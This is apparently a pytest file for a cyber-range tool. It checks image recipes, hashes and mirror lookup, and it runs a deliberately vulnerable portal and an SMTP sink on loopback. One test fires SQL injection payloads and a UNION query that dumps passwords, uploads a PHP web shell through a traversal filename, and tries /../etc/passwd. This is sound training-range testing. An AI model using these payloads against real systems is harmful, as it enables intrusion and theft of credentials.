"""Image recipes without an engine: hashes, Dockerfile shape, init scripts, mirror lookup.

The last tests run the web portal and the SMTP sink from their recipe folders
with this Python, on the loopback address only.
"""

from __future__ import annotations

import os
import re
import shutil
import smtplib
import socket
import sqlite3
import subprocess
import sys
import time
import urllib.error
import urllib.parse
import urllib.request
from pathlib import Path

import pytest

from rangectl.backend.images import debootstrap as D
from rangectl.backend.images import recipes as I
from tests.conftest import ROOT

IMAGES = ROOT / "images"
DERIVED = [r for r in I.available_recipes() if r != "base"]
EXPECTED = {"router", "web", "db", "workstation", "attacker", "dns", "mail", "mqtt", "engine", "agent"}


@pytest.fixture
def tree(tmp_path, monkeypatch):
    """A copy of images/ under a fresh RANGECTL_ROOT, free to edit."""
    root = tmp_path / "root"
    shutil.copytree(IMAGES, root / "images", symlinks=True)
    monkeypatch.setenv("RANGECTL_ROOT", str(root))
    return root / "images"


def test_every_expected_recipe_is_there():
    recipes = I.available_recipes()
    assert recipes[0] == "base"
    assert EXPECTED <= set(recipes)


@pytest.mark.parametrize("name", DERIVED)
def test_dockerfile_builds_on_the_base_and_starts_the_init(name):
    text = (IMAGES / name / "Dockerfile").read_text()
    lines = [ln.strip() for ln in text.splitlines() if ln.strip() and not ln.lstrip().startswith("#")]
    assert lines[0] == "ARG BASE", f"{name}: first instruction must be ARG BASE"
    froms = [ln for ln in lines if ln.upper().startswith("FROM ")]
    assert froms == ["FROM ${BASE}"], f"{name}: exactly one FROM ${{BASE}}"
    assert 'ENTRYPOINT ["/usr/local/sbin/rangectl-init"]' in lines
    assert "COPY init.sh /usr/local/sbin/rangectl-init" in lines
    for ln in lines:
        if "apt-get install" in ln:
            assert "--no-install-recommends" in ln, f"{name}: {ln}"
    if "apt-get install" in text:
        assert "rm -rf /var/lib/apt/lists/*" in text, f"{name}: apt lists left in the image"


@pytest.mark.parametrize("name", DERIVED)
def test_init_script_is_executable_valid_bash_and_waits(name):
    init = IMAGES / name / "init.sh"
    assert init.is_file() and os.access(init, os.X_OK), f"{init} must be executable"
    text = init.read_text()
    assert text.startswith("#!/bin/bash")
    assert ". /usr/local/lib/rangectl/init-lib.sh" in text
    assert text.rstrip().endswith("rc_wait_forever")
    r = subprocess.run(["bash", "-n", str(init)], capture_output=True, text=True)
    assert r.returncode == 0, r.stderr


def test_base_recipe_files_are_valid():
    lib = IMAGES / "base/rootfs/usr/local/lib/rangectl/init-lib.sh"
    svc = IMAGES / "base/rootfs/usr/local/bin/rangectl-svc"
    policy = IMAGES / "base/rootfs/usr/sbin/policy-rc.d"
    for f in (lib, svc, policy):
        r = subprocess.run(["bash", "-n", str(f)], capture_output=True, text=True)
        assert r.returncode == 0, f"{f}: {r.stderr}"
    assert os.access(svc, os.X_OK) and os.access(policy, os.X_OK)
    assert "python3" in I.base_packages()  # Ansible needs it on every node


def test_python_in_recipes_compiles():
    for f in IMAGES.rglob("*.py"):
        compile(f.read_text(), str(f), "exec")


def test_hash_is_stable_and_ref_is_well_formed():
    for name in I.available_recipes():
        h1, h2 = I.recipe_hash(name), I.recipe_hash(name)
        assert h1 == h2 and re.fullmatch(r"[0-9a-f]{64}", h1)
        assert re.fullmatch(rf"rangectl/{name}:[0-9a-f]{{12}}", I.image_ref(name))
    assert len({I.recipe_hash(n) for n in I.available_recipes()}) == len(I.available_recipes())


def test_hash_does_not_depend_on_where_the_tree_is_or_file_times(tree, monkeypatch):
    copy = {n: I.image_ref(n) for n in I.available_recipes()}
    for p in tree.rglob("*"):
        if p.is_file():
            os.utime(p, (1, 1))
    assert {n: I.image_ref(n) for n in I.available_recipes()} == copy
    monkeypatch.setenv("RANGECTL_ROOT", str(ROOT))
    assert {n: I.image_ref(n) for n in I.available_recipes()} == copy


def test_changing_a_recipe_file_changes_only_that_image(tree):
    before = {n: I.recipe_hash(n) for n in I.available_recipes()}
    (tree / "web/www/index.html").write_text("<h1>replaced</h1>\n")
    after = {n: I.recipe_hash(n) for n in I.available_recipes()}
    assert after["web"] != before["web"]
    assert {n: h for n, h in after.items() if n != "web"} == {n: h for n, h in before.items() if n != "web"}


def test_adding_a_file_or_an_exec_bit_changes_the_hash(tree):
    h0 = I.recipe_hash("dns")
    extra = tree / "dns/conf/conf.d/extra.conf"
    extra.write_text("local=/corp.test/\n")
    h1 = I.recipe_hash("dns")
    assert h1 != h0
    extra.chmod(0o755)
    assert I.recipe_hash("dns") != h1
    extra.unlink()
    assert I.recipe_hash("dns") == h0


def test_caches_and_editor_files_do_not_change_the_hash(tree):
    h0 = I.recipe_hash("web")
    (tree / "web/app/__pycache__").mkdir(exist_ok=True)
    (tree / "web/app/__pycache__/portal.cpython-311.pyc").write_bytes(b"\0junk")
    (tree / "web/app/portal.py~").write_text("backup")
    assert I.recipe_hash("web") == h0


def test_changing_the_base_changes_every_image(tree):
    before = {n: I.recipe_hash(n) for n in I.available_recipes()}
    with open(tree / "base/packages.txt", "a") as fh:
        fh.write("less\n")
    after = {n: I.recipe_hash(n) for n in I.available_recipes()}
    assert all(after[n] != before[n] for n in before)


def test_an_external_base_gives_other_tags():
    default = I._base_hash()
    ext = I._base_hash("sha256:" + "ab" * 32)
    assert ext != default
    assert I.image_ref("web", ext) != I.image_ref("web")
    assert I.image_ref("web", ext) == I.image_ref("web", I._base_hash("sha256:" + "ab" * 32))


def test_unknown_recipe_is_a_one_line_error_with_the_fix():
    with pytest.raises(I.RangeError) as exc:
        I.image_ref("no-such-image")
    msg = str(exc.value)
    assert "no-such-image" in msg and "fix:" in msg and "\n" not in msg


def _etc(tmp_path: Path, sources: str | None = None, listfile: str | None = None) -> Path:
    etc = tmp_path / "etc"
    (etc / "apt/sources.list.d").mkdir(parents=True)
    if sources is not None:
        (etc / "apt/sources.list.d/debian.sources").write_text(sources)
    if listfile is not None:
        (etc / "apt/sources.list").write_text(listfile)
    return etc


def test_mirror_from_deb822_skips_security(tmp_path, monkeypatch):
    monkeypatch.delenv(D.MIRROR_ENV, raising=False)
    etc = _etc(
        tmp_path,
        sources=(
            "Types: deb\nURIs: http://security.example.test/debian-security\nSuites: bookworm-security\n"
            "Components: main\n\n"
            "Types: deb deb-src\n# a comment\nURIs: http://mirror.example.test/debian/\n"
            "Suites: bookworm bookworm-updates\nComponents: main\n"
        ),
    )
    assert D.debian_mirror(etc) == "http://mirror.example.test/debian"


def test_mirror_from_one_line_sources_list(tmp_path, monkeypatch):
    monkeypatch.delenv(D.MIRROR_ENV, raising=False)
    etc = _etc(
        tmp_path,
        listfile=(
            "# comment\ndeb http://security.example.test/debian-security bookworm-security main\n"
            "deb [arch=amd64 signed-by=/x.gpg] http://mirror.example.test/debian bookworm main\n"
        ),
    )
    assert D.debian_mirror(etc) == "http://mirror.example.test/debian"


def test_mirror_env_wins_and_none_found_is_an_environment_problem(tmp_path, monkeypatch):
    monkeypatch.setenv(D.MIRROR_ENV, "http://env.example.test/debian")
    assert D.debian_mirror(_etc(tmp_path)) == "http://env.example.test/debian"
    monkeypatch.delenv(D.MIRROR_ENV)
    with pytest.raises(D.EnvironmentProblem):
        D.debian_mirror(tmp_path / "etc")


# -- the service code of two images, run here on loopback ------------------------------------


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _wait_port(port: int, proc: subprocess.Popen, timeout: float = 10) -> None:
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        if proc.poll() is not None:
            raise AssertionError(f"server exited: {proc.stderr.read() if proc.stderr else ''}")
        try:
            socket.create_connection(("127.0.0.1", port), 0.2).close()
            return
        except OSError:
            time.sleep(0.05)
    raise AssertionError(f"nothing listens on 127.0.0.1:{port}")


@pytest.fixture
def portal(tmp_path):
    port = _free_port()
    root = tmp_path / "www"
    shutil.copytree(IMAGES / "web/www", root)
    db = tmp_path / "portal.db"
    subprocess.run([sys.executable, str(IMAGES / "web/app/seed.py"), str(db)], check=True)
    env = dict(
        os.environ,
        WEB_BIND="127.0.0.1",
        WEB_PORT=str(port),
        WEB_ROOT=str(root),
        WEB_LOG_DIR=str(tmp_path / "log"),
        WEB_DB=str(db),
    )
    proc = subprocess.Popen(
        [sys.executable, str(IMAGES / "web/app/portal.py")], env=env, stderr=subprocess.PIPE, text=True
    )
    try:
        _wait_port(port, proc)
        yield f"http://127.0.0.1:{port}", tmp_path
    finally:
        proc.terminate()
        proc.wait(5)


def _get(url: str, data: bytes | None = None, headers: dict | None = None) -> tuple[int, str]:
    req = urllib.request.Request(url, data=data, headers=headers or {})
    try:
        with urllib.request.urlopen(req, timeout=5) as r:
            return r.status, r.read().decode()
    except urllib.error.HTTPError as e:
        return e.code, e.read().decode()


def test_portal_pages_and_its_deliberate_weaknesses(portal):
    base, tmp = portal
    code, body = _get(base + "/")
    assert code == 200 and "District e-Government Portal" in body
    code, body = _get(base + "/lookup?id=079201000101")
    assert code == 200 and "Nguyen Van An" in body and "Tran Thi Bich" not in body
    # the SQL injection works: one quote dumps every row, a UNION reads the users table
    code, body = _get(base + "/lookup?id=" + urllib.parse.quote("' OR '1'='1"))
    assert code == 200 and body.count("<tr>") == 13
    code, body = _get(
        base + "/lookup?id=" + urllib.parse.quote("x' UNION SELECT username, password, role FROM users--")
    )
    assert "admin123" in body
    code, body = _get(base + "/lookup?id=" + urllib.parse.quote("'"))
    assert code == 500 and "Database error" in body
    # unrestricted upload, served back from the web root
    boundary = "rcboundary"
    payload = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="../shell.php"\r\n'
        f"Content-Type: application/x-php\r\n\r\n<?php system($_GET['c']); ?>\r\n--{boundary}--\r\n"
    ).encode()
    code, body = _get(
        base + "/upload", payload, {"Content-Type": f"multipart/form-data; boundary={boundary}"}
    )
    assert code == 200 and "shell.php" in body
    assert (tmp / "www/uploads/shell.php").read_text() == "<?php system($_GET['c']); ?>"
    code, body = _get(base + "/uploads/shell.php")
    assert code == 200 and "system(" in body
    # login: weak password accepted, failures logged
    code, _ = _get(base + "/login", b"username=admin&password=wrong")
    assert code == 401
    code, body = _get(base + "/login", b"username=admin&password=admin123")
    assert code == 200 and "Welcome, admin" in body
    auth = (tmp / "log/auth.log").read_text()
    assert "login failed user='admin'" in auth and "login ok user='admin'" in auth
    assert "file=shell.php" in (tmp / "log/uploads.log").read_text()
    access = (tmp / "log/access.log").read_text().splitlines()
    assert re.match(r'^127\.0\.0\.1 - - \[[^\]]+\] "GET / HTTP/1\.1" 200 \d+ "-" "Python-urllib/', access[0])
    assert _get(base + "/healthz") == (200, "ok\n")
    assert _get(base + "/../etc/passwd")[0] in (403, 404)


def test_seed_makes_the_tables(tmp_path):
    db = tmp_path / "p.db"
    subprocess.run([sys.executable, str(IMAGES / "web/app/seed.py"), str(db)], check=True)
    con = sqlite3.connect(db)
    assert con.execute("select count(*) from citizens").fetchone()[0] == 12
    assert con.execute("select count(*) from users").fetchone()[0] == 3


def test_smtp_sink_accepts_and_stores_mail(tmp_path):
    port = _free_port()
    env = dict(
        os.environ,
        MAIL_BIND="127.0.0.1",
        MAIL_PORT=str(port),
        MAIL_DIR=str(tmp_path / "inbox"),
        MAIL_LOG=str(tmp_path / "smtp.log"),
    )
    proc = subprocess.Popen(
        [sys.executable, str(IMAGES / "mail/smtpd.py")], env=env, stderr=subprocess.PIPE, text=True
    )
    try:
        _wait_port(port, proc)
        with smtplib.SMTP("127.0.0.1", port, timeout=5) as s:
            refused = s.sendmail(
                "it@bank.example",
                ["clerk@range.test", "head@range.test"],
                "Subject: Verify your account\r\n\r\nhi\r\n.dot\r\n",
            )
            assert refused == {}
            code, _ = s.docmd("VRFY", "root")
            assert code == 252
        new = list((tmp_path / "inbox/new").iterdir())
        assert len(new) == 1
        text = new[0].read_text()
        assert "X-Envelope-To: <clerk@range.test>, <head@range.test>" in text and "\n.dot" in text
        log = (tmp_path / "smtp.log").read_text()
        assert "from=<it@bank.example>" in log and "subject='Verify your account'" in log
    finally:
        proc.terminate()
        proc.wait(5)
        assert proc.returncode == 0  # SIGTERM is a clean stop
